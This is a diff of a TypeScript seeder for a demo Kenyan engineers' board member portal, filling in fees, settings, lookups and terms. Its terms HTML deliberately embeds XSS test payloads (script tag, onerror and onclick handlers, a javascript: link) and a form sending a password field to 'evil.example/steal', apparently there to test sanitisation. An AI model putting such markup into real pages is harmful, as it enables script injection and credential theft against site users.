@@ -1,4 +1,5 @@
-// Seeds the shell area's collections for a scenario.
+// Seeds the shell area: membership categories with charges (first: other seeders read them), the settings
+// record, company, terms, disclaimers, payment options and every setup lookup. The same in every scenario.
 import type { SeedContext } from '../context';
 import { kenya } from '../kenya';
 
@@ -13,11 +14,44 @@ const CHARGES: Record<string, { application: number; subscription: number; licen
   CORPORATE: { application: 58_000, subscription: 46_400, license: 69_600, upgrade: 0 },
 };
 
+/** A 32×32 PNG: the demo organisation's seal. */
+export const DEMO_LOGO_PNG_BASE64 = 'iVBORw0KGgoAAAANSUhEUgAAACAAAAAgCAIAAAD8GO2jAAAAiklEQVR42mPg92mkKWIYtYBaFlxZII6GqGMBprmk2sRAoekE7WAg0nSgyH8kgFUBCRZg1YlmAR6VBCzApQerBQTtYCDSdDwW4NeF0wJMt+CxAI9G+lqAP7rwW4BLO3YL/pMFRi2gpgW0iuShnw/oUVTQvLCjR3FNjwqHHlUmPSp9ejRbRpuOdLAAAORpBAxDpWS2AAAAAElFTkSuQmCC';
+
+export const DEMO_DISPLAY_NAME = 'Engineers Board of Kenya (demo)';
+
+/**
+ * Realistic terms, with the hostile bits a real CMS export may carry (a script, an event handler, inline style,
+ * a form, a javascript: link): the portal must show the text and drop all of those (DOMPurify allow-list).
+ */
+export const DEMO_TERMS_HTML = [
+  '<h2>Terms and conditions of registration</h2>',
+  '<p>By registering you confirm that the information you give is <strong>true and complete</strong>, and that you will keep it up to date.</p>',
+  '<ol><li>Membership is granted by the Board after review of your application and referees.</li>',
+  '<li>Fees paid are not refundable once the application has been reviewed.</li>',
+  '<li>Members abide by the Code of Conduct and undertake continuing professional development (CPD).</li></ol>',
+  '<p style="color:red" onclick="alert(1)">Your data is processed under the Data Protection Act, 2019.</p>',
+  '<script>alert("terms")</script><img src="x" onerror="alert(1)">',
+  '<form action="https://evil.example/steal"><input name="password"></form>',
+  '<p>Read the full <a href="https://ebk.example/code-of-conduct">Code of Conduct</a> and the <a href="javascript:alert(1)">privacy notice</a>.</p>',
+].join('');
+
+const LOOKUPS: Record<string, Array<[string, string]>> = {
+  'qualification-codes': [['DIP', 'Diploma'], ['BSC', 'Bachelor of Science'], ['BENG', 'Bachelor of Engineering'], ['MSC', 'Master of Science'], ['PHD', 'Doctor of Philosophy']],
+  'certification-code': [['KCSE', 'Kenya Certificate of Secondary Education'], ['IGCSE', 'International GCSE'], ['DEG', 'University degree'], ['PROF', 'Professional certificate']],
+  'industry-group': [['CONS', 'Consulting'], ['CONT', 'Contracting'], ['GOVT', 'Government'], ['MANU', 'Manufacturing'], ['ACAD', 'Academia'], ['ENER', 'Energy']],
+  'postal-codes': [['00100', 'Nairobi GPO'], ['80100', 'Mombasa'], ['40100', 'Kisumu'], ['20100', 'Nakuru'], ['30100', 'Eldoret'], ['10100', 'Nyeri']],
+  'certification-class': [['A', 'First Class Honours'], ['B', 'Second Class Honours (Upper)'], ['C', 'Second Class Honours (Lower)'], ['D', 'Pass']],
+  attachmentTypes: [['ID', 'National ID or passport'], ['DEGREE', 'Degree certificate'], ['TRANSCRIPT', 'Academic transcript'], ['KCSE', 'KCSE certificate'], ['CV', 'Curriculum vitae'], ['KRA', 'KRA PIN certificate'], ['CR12', 'CR12 (firms)']],
+  'referee-types': [['PROPOSER', 'Proposer'], ['SECONDER', 'Seconder'], ['REFEREE', 'Referee']],
+  divisions: [['CIV', 'Civil'], ['MEC', 'Mechanical'], ['ELE', 'Electrical'], ['AGR', 'Agricultural'], ['CHE', 'Chemical']],
+};
+
 export async function seedShell(ctx: SeedContext): Promise<void> {
+  const { db } = ctx;
   for (const c of kenya.membershipCategories) {
     const amounts = CHARGES[c.Code] ?? { application: 5_800, subscription: 5_800, license: 0, upgrade: 0 };
     const charge = (type: string, amount: number) => ({ Charge_Type: type, Charge_Item: type, Currency_Code: 'KES', Amount_Including_VAT: amount });
-    await ctx.db.categories.create({
+    await db.categories.create({
       ...c,
       charges: [
         charge('APPLICATION', amounts.application),
@@ -26,5 +60,70 @@ export async function seedShell(ctx: SeedContext): Promise<void> {
         ...(amounts.upgrade > 0 ? [charge('UPGRADE', amounts.upgrade)] : []),
       ],
     });
+  }
+
+  await db.settings.create({
+    id: 1,
+    site_colors: [
+      { colorName: 'primary', color: '#0f4c81' },
+      { colorName: 'secondary', color: '#d4a017' },
+      { colorName: 'accent', color: '#1b998b' },
+      { colorName: 'error', color: '#b3261e' },
+      { colorName: 'info', color: '#0369a1' },
+      { colorName: 'success', color: '#15803d' },
+      { colorName: 'warning', color: '#b45309' },
+      { colorName: 'BackTheme', color: '#f8fafc' },
+      { colorName: 'BadgeTheme', color: '#d4a017' },
+    ],
+    site_installed_packages: ['Dashboard', 'Profile', 'CPD', 'Application', 'Subscription', 'Upgrade', 'License', 'Billing', 'Certificate', 'MyProjects', 'Events'],
+    minor_settings: {
+      login_caption: 'Member portal sign-in',
+      organisation_caption: 'EBK',
+      registration: true,
+      license_alternative_caption: 'License',
+      countyField: true,
+      practicing_firm: true,
+      inactivityLogout: true,
+      certificate_of_good_standing: true,
+      certificate_of_good_standing_caption: 'Certificate of Good Standing',
+      acceptance_letter_caption: 'Letter of Acceptance',
+      referee_disclaimer: true,
+      referee_disclaimer_caption: 'I confirm that I have known the applicant for at least three years and that my answers are true.',
+      showWorkPlace: true,
+    },
+    projectURL: 'https://ebk.example/terms',
+  });
+  await db.company.create({ logo: DEMO_LOGO_PNG_BASE64, displayName: DEMO_DISPLAY_NAME, termsAndConditions: DEMO_TERMS_HTML });
+  await db.disclaimers.create({
+    disclaimerType: 'Application',
+    description: '<p>I declare that the information in this application is true. I understand that a false statement is grounds for refusal or removal from the register.</p>',
+  });
+  await db.disclaimers.create({
+    disclaimerType: 'Activation',
+    description: '<p>Activate only your own membership record. Using another member\'s record is an offence under the Engineers Act, 2011.</p>',
+  });
+  for (const [i, o] of [
+    ['Card (Visa, Mastercard)', 'CARD', 'CARD-01', 101, false],
+    ['M-Pesa', 'MPESA', 'MPESA-PAYBILL-174379', 102, true],
+    ['Bank transfer', 'BANK', 'KCB-1100223344', 103, true],
+  ].entries()) {
+    const [description, code, ref, checkoutCode, isConfirmPayment] = o as [string, string, string, number, boolean];
+    await db.paymentOptions.create({ id: i + 1, description, code, ref, checkoutCode, priority: i + 1, isConfirmPayment });
+  }
+
+  for (const c of kenya.countries) await db.countries.create(c);
+  for (const county of kenya.counties) {
+    await db.counties.create({ countryCode: 'KE', CountyNo: county.CountyNo, countyName: county.countyName });
+    for (const town of county.towns) await db.cities.create({ County: county.countyName, City: town });
+  }
+  const lists: Record<string, Array<[string, string]>> = {
+    ...LOOKUPS,
+    discipline: kenya.disciplines.map((d, i) => [`D${String(i + 1).padStart(2, '0')}`, d]),
+    'specialization-types': kenya.disciplines.map((d, i) => [`SP${String(i + 1).padStart(2, '0')}`, d]),
+    title: kenya.titles.map((t) => [t.replace(/\.$/, '').toUpperCase(), t]),
+    universities: kenya.universities.map((u, i) => [`U${String(i + 1).padStart(3, '0')}`, u]),
+  };
+  for (const [list, rows] of Object.entries(lists)) {
+    for (const [order, [Code, Description]] of rows.entries()) await db.lookups.create({ list, Code, Description, order });
   }
 }
